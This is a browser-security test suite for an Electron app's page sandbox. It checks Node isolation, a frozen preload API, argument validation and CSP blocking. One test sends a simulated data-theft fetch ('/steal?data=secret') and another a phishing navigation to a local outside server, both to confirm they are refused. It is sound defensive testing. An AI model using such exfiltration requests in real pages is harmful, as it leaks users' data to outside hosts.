/**
 * What the page can and cannot do, proven from inside the page. Runs in both
 * projects: the browser host (main's policy applied to Chromium) and the real
 * Electron shell.
 */
import { AppShell } from './support/app-shell.ts';
import { expect, test } from './support/fixtures.ts';
import { startOutsideServer, type OutsideServer } from './support/outside-server.ts';

let outside: OutsideServer;
test.beforeEach(async () => {
  outside = await startOutsideServer();
});
test.afterEach(async () => {
  await outside.close();
});

test('the page has no Node: window.require, process and module are undefined', async ({ app }) => {
  await new AppShell(app.page).ready();
  const globals = await app.page.evaluate(() => ({
    require: typeof (window as unknown as Record<string, unknown>)['require'],
    process: typeof (window as unknown as Record<string, unknown>)['process'],
    module: typeof (window as unknown as Record<string, unknown>)['module'],
    buffer: typeof (window as unknown as Record<string, unknown>)['Buffer'],
  }));
  expect(globals).toEqual({ require: 'undefined', process: 'undefined', module: 'undefined', buffer: 'undefined' });
});

test('window.caravan exposes named functions only, frozen, and no ipcRenderer', async ({ app }) => {
  await new AppShell(app.page).ready();
  const shape = await app.page.evaluate(() => {
    const api = window.caravan as unknown as Record<string, Record<string, unknown>>;
    const members = Object.entries(api).flatMap(([domain, fns]) => Object.entries(fns).map(([name, fn]) => `${domain}.${name}:${typeof fn}`));
    const original = api['app'];
    try {
      (api as Record<string, unknown>)['app'] = {};
    } catch {
      // Frozen objects throw in strict mode; either way the value must not change.
    }
    const mutated = api['app'] !== original;
    return { members: members.sort(), mutated, ipc: 'ipcRenderer' in window || 'ipcRenderer' in api };
  });
  expect(shape.members).toEqual([
    'app.info:function',
    'app.notify:function',
    'app.print:function',
    'bundle.checkExport:function',
    'bundle.checkImport:function',
    'bundle.open:function',
    'bundle.recordImport:function',
    'bundle.save:function',
    'deviceKey.enable:function',
    'deviceKey.forget:function',
    'deviceKey.read:function',
    'deviceKey.status:function',
    'files.chooseFolder:function',
    'files.saveText:function',
    'integrity.read:function',
    'integrity.write:function',
    'locality.addTarget:function',
    'locality.audit:function',
    'locality.close:function',
    'locality.data:function',
    'locality.importData:function',
    'locality.open:function',
    'locality.placement:function',
    'locality.previewPlacement:function',
    'locality.previewPolicy:function',
    'locality.recordClientAction:function',
    'locality.recordTravel:function',
    'locality.regions:function',
    'locality.removeTarget:function',
    'locality.resolve:function',
    'locality.setPolicy:function',
    'locality.targets:function',
    'locality.travelPlan:function',
    'locality.verifyAudit:function',
    'net.onStatus:function',
    'net.status:function',
    'power.onState:function',
    'sync.completeJoin:function',
    'sync.delete:function',
    'sync.deletePartition:function',
    'sync.get:function',
    'sync.join:function',
    'sync.list:function',
    'sync.put:function',
    'sync.setCredentials:function',
    'sync.test:function',
    'timer.blockStored:function',
    'timer.command:function',
    'timer.onChanged:function',
    'timer.preferences:function',
    'timer.setPreferences:function',
    'timer.state:function',
    'timer.trayProjects:function',
  ]);
  expect(shape.mutated).toBe(false);
  expect(shape.ipc).toBe(false);
});

test('main validates arguments at run time: a call with extra arguments is refused', async ({ app }) => {
  await new AppShell(app.page).ready();
  const result = await app.page.evaluate(() => (window.caravan.app.info as unknown as (x: unknown) => Promise<unknown>)({ evil: true }));
  expect(result).toMatchObject({ ok: false, error: { code: 'invalid-argument' } });
});

test('a fetch to another origin is refused and never reaches it', async ({ app }) => {
  await new AppShell(app.page).ready();
  const outcome = await app.page.evaluate(async (target) => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    try {
      await fetch(`${target}/steal?data=secret`, { mode: 'no-cors' });
      return { fetched: true, violations };
    } catch (error) {
      await new Promise((r) => setTimeout(r, 50));
      return { fetched: false, error: String(error), violations };
    }
  }, outside.origin);
  expect(outcome.fetched).toBe(false);
  expect(outcome.violations).toContain('connect-src');
  expect(outside.hits).toEqual([]);
});

test('navigation away from the app does nothing', async ({ app }) => {
  const shell = new AppShell(app.page);
  await shell.ready();
  const before = app.page.url();
  await app.page.evaluate((target) => {
    window.location.href = `${target}/phish`;
  }, outside.origin);
  await app.page.waitForTimeout(500);
  expect(app.page.url()).toBe(before);
  await expect(shell.nav).toBeVisible();
  expect(outside.hits).toEqual([]);
});

test('window.open does nothing: no window, no request', async ({ app }) => {
  await new AppShell(app.page).ready();
  const pagesBefore = app.page.context().pages().length;
  const opened = await app.page.evaluate((target) => {
    const handle = window.open(`${target}/popup`, '_blank');
    return handle === null;
  }, outside.origin);
  await app.page.waitForTimeout(500);
  expect(opened).toBe(true);
  expect(app.page.context().pages().length).toBe(pagesBefore);
  expect(outside.hits).toEqual([]);
});

test('the document is served with the strict CSP, as a header (with sandbox) and as a meta tag', async ({ app }) => {
  await new AppShell(app.page).ready();
  const { meta, header } = await app.page.evaluate(async () => ({
    meta: document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
    header: (await fetch(location.href.split('#')[0] ?? '')).headers.get('content-security-policy') ?? '',
  }));
  for (const csp of [meta, header]) {
    expect(csp).toContain("connect-src 'self'");
    expect(csp).toContain("default-src 'none'");
    expect(csp).not.toContain('unsafe-inline');
    expect(csp).not.toMatch(/'unsafe-eval'/);
  }
  expect(header).toContain('sandbox allow-scripts allow-same-origin allow-forms');
  expect(header).not.toContain('allow-popups');
});
